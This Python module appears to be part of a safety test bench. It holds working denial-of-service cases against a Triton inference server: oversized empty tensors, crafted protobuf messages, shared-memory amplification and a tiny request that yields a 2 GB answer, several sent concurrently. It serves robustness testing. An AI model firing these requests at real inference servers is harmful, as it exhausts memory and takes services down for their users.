"""Small requests of which much would be made: answers, objects, wide numbers, shared memory."""

from __future__ import annotations

import os
import struct
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from tritonclient.grpc import service_pb2, service_pb2_grpc

from bench.safety.target import Outcomes, Target, request

_LARGE_BYTES = 60 << 20
_AT_ONCE = 4
_SHARED, _SHARED_BYTES = 64, 60 << 20


def empty_strings(target: Target) -> Outcomes:
    """Four times 60 MB of BYTES without content, to a model that hands them on."""
    raw = bytes(_LARGE_BYTES)
    data = request("texts", "BYTES", [len(raw) // 4], raw)
    return _at_once([lambda: target.infer(data)] * _AT_ONCE)


def protobuf_texts(target: Target) -> Outcomes:
    """60 MB of empty typed contents in one input."""
    message = service_pb2.ModelInferRequest(model_name="texts")
    contents = b"\x42\x00" * (_LARGE_BYTES // 2)
    tensor = b"\x0a\x01x\x12\x05BYTES\x1a\x01\x01" + _field(5, contents)
    return Counter([target.infer(message.SerializeToString() + _field(5, tensor))])


def protobuf_numbers(target: Target) -> Outcomes:
    """Four times 60 MB of INT64 that take a byte each."""
    tensor = service_pb2.ModelInferRequest.InferInputTensor(
        name="x", datatype="INT64", shape=[_LARGE_BYTES]
    )
    contents = _field(5, _field(3, bytes(_LARGE_BYTES)))
    data = service_pb2.ModelInferRequest(model_name="integers").SerializeToString()
    data += _field(5, tensor.SerializeToString() + contents)
    return _at_once([lambda: target.infer(data)] * _AT_ONCE)


def _field(number: int, content: bytes) -> bytes:
    length, encoded = len(content), bytearray([number << 3 | 2])
    while length > 127:
        encoded.append(length & 127 | 128)
        length >>= 7
    return bytes(encoded) + bytes([length]) + content


def shared_memory(target: Target) -> Outcomes:
    """64 requests of 100 bytes for tensors of 60 MB in shared memory."""
    key = f"attack-{os.getpid()}"
    file = Path("/dev/shm", key)
    file.touch()
    os.truncate(file, _SHARED_BYTES)
    try:
        with target.channel() as channel:
            stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
            stub.SystemSharedMemoryRegister(
                service_pb2.SystemSharedMemoryRegisterRequest(
                    name=key, key=key, byte_size=_SHARED_BYTES
                )
            )
            found = _at_once([lambda: target.infer(_shared(key))] * _SHARED)
            stub.SystemSharedMemoryUnregister(
                service_pb2.SystemSharedMemoryUnregisterRequest(name=key)
            )
        return found
    finally:
        file.unlink()


def _shared(region: str) -> bytes:
    message = service_pb2.ModelInferRequest(model_name="identity")
    made = message.inputs.add(name="x", datatype="FP32", shape=[_SHARED_BYTES // 4])
    made.parameters["shared_memory_region"].string_param = region
    made.parameters["shared_memory_byte_size"].int64_param = _SHARED_BYTES
    return bytes(message.SerializeToString())


def large_answers(target: Target) -> Outcomes:
    """Eight requests of 40 bytes to a model that answers with 2 GB."""
    raw = struct.pack("<q", 500_000_000)
    return _at_once([lambda: target.infer(request("zeros", "INT64", [1], raw))] * 8)


def _at_once(calls: list[Callable[[], str]]) -> Outcomes:
    with ThreadPoolExecutor(len(calls)) as pool:
        return Counter(pool.map(lambda call: call(), calls))
